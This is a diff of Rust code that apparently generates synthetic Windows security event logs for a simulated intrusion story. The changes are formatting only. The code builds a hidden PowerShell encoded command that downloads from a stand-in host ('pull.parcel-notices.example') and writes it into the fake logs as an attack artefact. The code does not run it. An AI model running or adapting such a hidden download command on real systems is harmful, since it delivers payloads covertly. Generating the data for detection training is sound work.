@@ -39,7 +39,10 @@ enum Happening<'a> {
 
 pub fn write(company: &Company, story: &Story, mut dice: Dice, out: Sink<'_>) -> io::Result<Output> {
     // UTF-16 in Base64, as PowerShell wants it: "iwr pull.parcel-notices.example".
-    let command = format!("powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {}", utf16_base64("iwr pull.parcel-notices.example"));
+    let command = format!(
+        "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {}",
+        utf16_base64("iwr pull.parcel-notices.example")
+    );
     let rows = write_days(company, out, b"\n", |day, log| {
         usual_day(company, &mut dice, day, log);
         if day == story.vault_day {
@@ -70,7 +73,15 @@ fn usual_day(company: &Company, dice: &mut Dice, day: i64, log: &mut DayLog) {
             let address = format!("10.30.{}.{}", dice.between(0, 8), dice.between(4, 250));
             match dice.weighted([30, 4, 20, 46].into_iter()) {
                 0 => write_event(company, at, &computer, &person.account, &Happening::Logon(2, "127.0.0.1"), dice, log),
-                1 => write_event(company, at, &computer, &person.account, &Happening::FailedLogon(2, "127.0.0.1"), dice, log),
+                1 => write_event(
+                    company,
+                    at,
+                    &computer,
+                    &person.account,
+                    &Happening::FailedLogon(2, "127.0.0.1"),
+                    dice,
+                    log,
+                ),
                 2 => write_event(company, at, SERVERS[2], &person.account, &Happening::Logon(3, &address), dice, log),
                 _ => start_something(company, at, &computer, &person.account, dice, log),
             }
@@ -150,10 +161,7 @@ fn write_event(
                 .text("CommandLine", line);
         }
     }
-    row.text("TenantId", &company.tenant_id)
-        .text("SourceSystem", "OpsManager")
-        .text("Type", "SecurityEvent")
-        .close();
+    row.text("TenantId", &company.tenant_id).text("SourceSystem", "OpsManager").text("Type", "SecurityEvent").close();
 }
 
 fn logon_type_name(logon_type: i64) -> &'static str {
